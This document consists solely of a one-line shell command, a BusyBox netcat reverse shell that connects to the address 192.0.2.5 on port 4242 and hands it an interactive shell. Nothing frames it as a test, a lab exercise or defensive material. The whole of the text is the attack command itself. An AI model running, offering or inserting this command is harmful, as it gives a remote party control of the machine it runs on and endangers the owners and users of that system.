busybox nc 192.0.2.5 4242 -e sh
